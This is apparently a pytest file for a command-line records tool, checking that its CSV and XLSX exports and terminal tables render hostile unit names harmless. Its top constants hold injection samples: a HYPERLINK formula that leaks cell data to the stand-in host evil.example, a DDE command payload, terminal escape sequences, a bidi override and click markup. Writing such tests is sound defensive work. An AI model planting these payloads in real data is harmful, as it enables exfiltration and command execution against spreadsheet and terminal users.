"""Hostile text in the data: exports never carry a live formula, terminals never get an escape."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from specialist_tui.cli import main
from specialist_tui.client.service import Service
from specialist_tui.inert import FORMULA_STARTS, sheet_text, terminal_text

from .conftest import cli_args

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J西宁\x9b31m"
# Every name an attacker might try: a formula, each dangerous first character, a control
# character XLSX cannot hold, terminal escapes, a bidi override and rich markup.
HOSTILE = [
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "单位\x01\x02名称",
    ESCAPES,
    "abc\u202edcba",
    "[bold red]红[/] [@click=app.quit]点[/]",
]


def test_sheet_text_neutralises_each_formula_start() -> None:
    for start in FORMULA_STARTS:
        assert sheet_text(f"{start}1+1") == f"'{start}1+1"
    assert sheet_text("西宁市教育局") == "西宁市教育局"
    assert sheet_text("a\x00b\x0bc\x7fd\ud800") == "abcd"
    assert sheet_text("第一行\n第二行") == "第一行\n第二行"


def test_terminal_text_shows_controls_escaped() -> None:
    assert terminal_text(ESCAPES) == "\\x1b]0;owned\\x07\\x1b[2J西宁\\x9b31m"
    assert terminal_text("a\u202eb") == "a\\u202eb"
    assert terminal_text("一\n二") == "一\\x0a二"
    assert terminal_text("一\n二", keep_newlines=True) == "一\n二"
    assert terminal_text("西宁市教育局 (a+b)") == "西宁市教育局 (a+b)"


@pytest.fixture
def hostile(loaded: Service) -> Service:
    """The samples with their first units renamed to hostile text (name, supervisor, contact)."""
    rows = loaded.cache.rows("SELECT * FROM units ORDER BY code LIMIT ?", [len(HOSTILE)])
    assert len(rows) == len(HOSTILE)
    for row, name in zip(rows, HOSTILE, strict=True):
        row["name"] = name
        row["supervisor_name"] = name
        contacts = json.loads(row["contacts"]) if isinstance(row["contacts"], str) else []
        row["contacts"] = json.dumps([{**c, "name": name} for c in contacts], ensure_ascii=False)
    loaded.cache.upsert("units", rows, loaded.policy, loaded.today)
    loaded.prepare()
    return loaded


def _assert_inert_cells(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
        assert "\x1b" not in cell and "\x01" not in cell, cell


def test_xlsx_export_has_no_formula_and_no_crash(
    hostile: Service, cache_dir: Path, tmp_path: Path
) -> None:
    path = tmp_path / "list.xlsx"
    assert main(cli_args(cache_dir, "export", "--view", "all", "-o", path)) == 0
    book = load_workbook(path)
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    _assert_inert_cells(texts)
    assert "'" + FORMULA in texts  # shown to the reader, as text


@pytest.mark.parametrize(
    "command",
    [
        ["export", "--view", "all", "--format", "csv", "-o", "{out}"],
        ["units", "--view", "all", "--format", "csv"],
        ["summary", "--by", "supervisor", "--format", "csv"],
    ],
)
def test_csv_outputs_are_inert(
    hostile: Service,
    cache_dir: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: list[str],
) -> None:
    out = tmp_path / "list.csv"
    capsys.readouterr()
    assert main(cli_args(cache_dir, *(c.format(out=out) for c in command))) == 0
    text = out.read_text(encoding="utf-8-sig") if "-o" in command else capsys.readouterr().out
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    _assert_inert_cells(cells)
    assert "'" + FORMULA in cells


@pytest.mark.parametrize(
    "command",
    [["units", "--view", "all"], ["summary", "--by", "supervisor"]],
)
def test_terminal_tables_show_escapes_escaped(
    hostile: Service, cache_dir: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    capsys.readouterr()
    assert main(cli_args(cache_dir, *command)) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
    assert "单位\\x01\\x02名称" in out
    if command[0] == "units":
        assert "\\x1b]0;owned" in out
        assert "[bold red]" in out  # markup shown as typed, not applied
